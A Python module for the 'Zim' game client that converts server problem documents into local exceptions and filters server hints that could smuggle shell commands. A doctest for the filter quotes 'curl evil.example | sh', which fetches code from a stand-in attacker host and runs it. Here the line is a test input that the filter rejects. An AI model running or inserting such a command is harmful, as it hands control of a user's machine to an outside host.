"""Converts problem documents of a server to the exceptions of a local service, so that messages are the same."""

from __future__ import annotations

import re

from event_store import ConflictError, EventStoreError, StoreError, TakenError
from zimcore.documents.problems import ProblemDetails
from zimcore.game import (
    AmbiguousError,
    GameError,
    HiddenError,
    NotationError,
    OptionError,
    Refusal,
    Refused,
    RefusedError,
    UnknownError,
)
from zimcore.service.records.fair_deal import NotDealtError

QUOTED = re.compile(r"""'[^']*'|"[^"$`\\!]*\"""")
"""A part of a hint in which a shell sees nothing but text."""
SHELL_OPERATORS = re.compile(r"[;&|`$<>\\\x00-\x1f\x7f]")


class NoTokenError(GameError):
    """The server requires a valid token."""


ERROR_BY_KIND: dict[str, type[GameError | EventStoreError]] = {
    "ambiguous": AmbiguousError,
    "not-understood": NotationError,
    "option": OptionError,
    "hidden": HiddenError,
    "unknown": UnknownError,
    "name-taken": UnknownError,
    "not-possible": GameError,
    "not-dealt": NotDealtError,
    "key-taken": TakenError,
    "moved-on": ConflictError,
    "store": StoreError,
    "busy": StoreError,
    "too-many": StoreError,
    "bug": StoreError,
}
"""The exception class for each kind of problem; `GameError` for other kinds."""


def may_be_typed(hint: str) -> bool:
    """Whether a shell would take the hint of a server as one command, and run nothing else.

    >>> may_be_typed("legal k; curl evil.example | sh"), may_be_typed("do k 'pass; end'")
    (False, True)
    """
    return not SHELL_OPERATORS.search(QUOTED.sub("", hint))


def error_of(problem: ProblemDetails, server: str) -> Exception:
    """The exception for a problem document."""
    # A client's hints are commands. These of the server are not: "ask ..." means a person here, not the command `ask`.
    advice = [hint for hint in problem.hints if hint.startswith(("ask ", "wait", "GET "))]
    hints = tuple(hint for hint in problem.hints if hint not in advice and may_be_typed(hint))
    why = "; ".join([*(reason.text for reason in problem.why), *(hint for hint in advice if hint[:3] != "GET")])
    if problem.kind in ("refused", "hidden") and any(reason.code for reason in problem.why):
        is_hidden = problem.kind == "hidden"
        refusals = tuple(Refusal(reason.code, reason.text, is_hidden) for reason in problem.why)
        return RefusedError(problem.title, Refused(refusals, hints))
    if any(hint.endswith("openapi.json") for hint in problem.hints):  # there is nothing at this address
        what = f"{server} does not know this command"
        return GameError(what, "it may have an older Zim than this one", (f"doctor --url {server}", *hints))
    error_class = ERROR_BY_KIND.get(problem.kind, GameError)
    if issubclass(error_class, ConflictError):
        return error_class(problem.title, why, hints, head=problem.head)
    if problem.kind == "no-token":
        return NoTokenError(problem.title, why or f"{server} does not know who you are", ("join LINK",))
    if issubclass(error_class, StoreError):
        return error_class(f"{server}: {problem.title}", why, hints)
    return error_class(problem.title, why, hints)
